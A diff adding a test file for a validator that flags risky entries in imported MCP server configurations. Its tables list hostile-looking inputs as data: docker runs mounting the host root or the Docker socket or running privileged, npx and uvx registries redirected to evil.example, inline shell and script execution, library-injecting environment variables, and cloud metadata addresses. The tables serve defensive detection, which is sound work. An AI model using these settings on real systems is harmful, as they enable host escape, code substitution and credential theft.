@@ -1,0 +1,197 @@
+import { describe, expect, it } from 'vitest';
+import { parseImport, serverProblemText } from '../src/index.ts';
+
+const problemsOf = (server: object): readonly string[] => {
+  const parsed = parseImport(JSON.stringify({ mcpServers: { one: server } }));
+  if (!parsed.ok) throw new Error('not readable');
+  return parsed.servers.flatMap(({ problems }) => problems.map(serverProblemText));
+};
+
+const REASONS = {
+  address: 'is an address of this machine, of its network or of the metadata of a cloud',
+  container: 'gives the container access to this machine, or removes its isolation',
+  environment: 'is a variable that can change which program or library runs, or whom it trusts',
+  'plain-http': 'sends calls and headers without encryption',
+  runtime: 'can change what runs, or where it comes from',
+} as const;
+
+const refusal = (risk: keyof typeof REASONS, part: string): string =>
+  `"${part}" ${REASONS[risk]}; --allow ${risk} accepts it.`;
+
+const words = (line: string): object => {
+  const [command, ...args] = line.split(' ');
+  return { command, args };
+};
+
+describe('a container of an imported entry', () => {
+  it.each([
+    ['docker run -i --rm -v /:/host image', '-v /:/host'],
+    ['docker run -i --rm -v/:/host image', '-v /:/host'],
+    ['docker run -itv /:/host image', '-v /:/host'],
+    ['docker run --volume=/:/host image', '--volume /:/host'],
+    ['docker run --mount type=bind,src=/,dst=/host image', '--mount type=bind,src=/,dst=/host'],
+    [
+      'docker run -v /var/run/docker.sock:/var/run/docker.sock image',
+      '-v /var/run/docker.sock:/var/run/docker.sock',
+    ],
+    ['docker run --network=host image', '--network host'],
+    ['docker run --net host image', '--net host'],
+    ['docker run --pid=host image', '--pid host'],
+    ['docker run --ipc=host image', '--ipc host'],
+    ['docker run --uts=host image', '--uts host'],
+    ['docker run --userns=host image', '--userns host'],
+    ['docker run --cgroupns host image', '--cgroupns host'],
+    ['docker run --privileged image', '--privileged'],
+    ['docker run --cap-add SYS_ADMIN image', '--cap-add SYS_ADMIN'],
+    ['docker run --device /dev/mem image', '--device /dev/mem'],
+    ['docker run --security-opt apparmor=unconfined image', '--security-opt apparmor=unconfined'],
+    ['docker run -u 0 image', '-u 0'],
+    ['docker run -u0:0 image', '-u 0:0'],
+    ['docker run --user root image', '--user root'],
+    ['docker run --volumes-from other image', '--volumes-from other'],
+    ['docker run --use-api-socket image', '--use-api-socket'],
+    ['docker run -p 0.0.0.0:22:22 image', '-p 0.0.0.0:22:22'],
+    ['docker run --some-new-option x image', '--some-new-option x'],
+    ['podman run --privileged image', '--privileged'],
+    ['/usr/local/bin/docker container run --privileged image', '--privileged'],
+    ['docker.exe run --privileged image', '--privileged'],
+    ['cmd /c docker run --privileged image', '--privileged'],
+    ['env A=b docker run --privileged image', '--privileged'],
+    ['docker -H tcp://10.0.0.1 run image', 'docker -H'],
+    ['docker exec other sh', 'docker exec'],
+    ['docker compose up', 'docker compose'],
+  ])('%s', (line, part) => {
+    expect(problemsOf(words(line))).toEqual([refusal('container', part)]);
+  });
+
+  it.each([
+    'docker run -i --rm image',
+    'docker run -it --rm --init --read-only --cap-drop ALL --memory 1g --name one image',
+    'docker run -i --rm -e TOKEN -e MODE=a --network none -u 1000:1000 image',
+    'docker run -i --rm --security-opt=no-new-privileges image',
+    'docker run -i --rm image --privileged -v /:/host',
+  ])('%s has no risk', (line) => {
+    expect(problemsOf(words(line))).toEqual([]);
+  });
+});
+
+describe('a program of an imported entry', () => {
+  it.each([
+    ['npx --registry=https://evil.example -y server', '--registry=https://evil.example'],
+    [
+      'npx -y --@acme:registry=https://evil.example server',
+      '--@acme:registry=https://evil.example',
+    ],
+    ['npx -c id', '-c'],
+    ['npx --node-options=--require=/tmp/a.js server', '--node-options=--require=/tmp/a.js'],
+    ['npx -y -p server --call id', '--call'],
+    ['npm exec server --registry=https://evil.example', '--registry=https://evil.example'],
+    ['uvx --index-url https://evil.example server', '--index-url'],
+    [
+      'uvx --from server --extra-index-url=https://evil.example server',
+      '--extra-index-url=https://evil.example',
+    ],
+    ['uv run --env-file .env server', '--env-file'],
+    ['node -e process.exit()', '-e'],
+    ['node --require /tmp/a.js server.js', '--require'],
+    ['python3 -c import(os)', '-c'],
+    ['python -Ic import(os)', '-Ic'],
+    ['perl -e system', '-e'],
+    ['sh -c id', '-c'],
+    ['bash -lc id', '-lc'],
+    ['sudo docker run image', 'sudo'],
+    ['powershell -Command id', 'powershell'],
+    ['cmd /c npx -c id', '-c'],
+  ])('%s', (line, part) => {
+    expect(problemsOf(words(line))).toEqual([refusal('runtime', part)]);
+  });
+
+  it.each([
+    'npx -y @modelcontextprotocol/server-filesystem /srv -c config.json',
+    'npx -y -p @acme/tools server --registry own',
+    'cmd /c npx -y server',
+    'uvx --from git+https://git.example/server server -c config.toml',
+    'uv --directory /srv/server run server.py',
+    'node server.js -e production',
+    'python -m server -c config.toml',
+    'bash start.sh',
+  ])('%s has no risk', (line) => {
+    expect(problemsOf(words(line))).toEqual([]);
+  });
+});
+
+describe('a variable of an imported entry', () => {
+  it.each([
+    ...['LD_PRELOAD', 'LD_LIBRARY_PATH', 'DYLD_INSERT_LIBRARIES', 'NODE_OPTIONS'],
+    ...['NODE_EXTRA_CA_CERTS', 'PYTHONPATH', 'PYTHONSTARTUP', 'CURL_CA_BUNDLE', 'SSL_CERT_FILE'],
+    ...['REQUESTS_CA_BUNDLE', 'HTTP_PROXY', 'https_proxy', 'ALL_PROXY', 'NPM_CONFIG_REGISTRY'],
+    ...['PIP_INDEX_URL', 'UV_INDEX_URL', 'GIT_SSH_COMMAND', 'PATH', 'BASH_ENV', 'PERL5OPT'],
+    ...['RUBYOPT', 'JAVA_TOOL_OPTIONS', 'DOCKER_HOST', 'SSLKEYLOGFILE', 'AWS_CA_BUNDLE', 'GOPROXY'],
+  ])('%s', (name) => {
+    expect(problemsOf({ command: 'server', env: { [name]: 'x' } })).toEqual([
+      refusal('environment', name),
+    ]);
+    expect(problemsOf(words(`env ${name}=x server`))).toEqual([refusal('environment', name)]);
+    expect(problemsOf(words(`docker run -e ${name}=x image`))).toEqual([
+      refusal('environment', name),
+    ]);
+  });
+
+  it.each([
+    'TOKEN',
+    'PYTHONUNBUFFERED',
+    'NODE_ENV',
+    'AWS_REGION',
+    'PATH_TO_DATA',
+    'UVICORN',
+    'API_BASE',
+  ])('%s has no risk', (name) => {
+    expect(problemsOf({ command: 'server', env: { [name]: 'x' } })).toEqual([]);
+  });
+
+  it('has a name that a program can receive', () => {
+    expect(problemsOf({ command: 'server', env: { 'A B': 'x' } })).toEqual([
+      'The name "A B" in its "env" is not a name of a variable.',
+    ]);
+    expect(problemsOf({ url: 'https://a.example/mcp', headers: { 'X Key': 'x' } })).toEqual([
+      'The name "X Key" in its "headers" is not a name of a header.',
+    ]);
+  });
+});
+
+describe('an address of an imported entry', () => {
+  it.each([
+    ['https://169.254.169.254/mcp', 'https://169.254.169.254'],
+    ['https://0xa9fea9fe/mcp', 'https://169.254.169.254'],
+    ['https://[fe80::1]/mcp', 'https://[fe80::1]'],
+    ['https://[64:ff9b::a9fe:a9fe]/mcp', 'https://[64:ff9b::a9fe:a9fe]'],
+    ['https://192.168.1.1/mcp', 'https://192.168.1.1'],
+    ['https://172.16.0.1/mcp', 'https://172.16.0.1'],
+    ['https://100.64.0.1/mcp', 'https://100.64.0.1'],
+    ['https://wiki.corp/mcp', 'https://wiki.corp'],
+    ['https://wiki./mcp', 'https://wiki.'],
+  ])('%s', (url, part) => {
+    expect(problemsOf({ url })).toEqual([refusal('address', part)]);
+  });
+
+  it.each(['https://172.32.0.1/mcp', 'https://wiki.example/mcp', 'https://[2606:4700::1]/mcp'])(
+    '%s has no risk',
+    (url) => {
+      expect(problemsOf({ url })).toEqual([]);
+    },
+  );
+
+  it('without TLS is refused, but not that of a program of this machine', () => {
+    expect(problemsOf({ url: 'http://wiki.example/mcp' })).toEqual([
+      refusal('plain-http', 'http://wiki.example'),
+    ]);
+    expect(problemsOf({ url: 'http://localhost:3000/mcp' })).toEqual([]);
+    expect(problemsOf({ url: 'http://127.0.0.1:3000/mcp' })).toEqual([]);
+  });
+
+  it('with credentials is refused', () => {
+    expect(problemsOf({ url: 'https://me:pw@wiki.example/mcp' })).toEqual([
+      'Its address contains a user or a password: remove them, and give the credentials as a header.',
+    ]);
+  });
+});
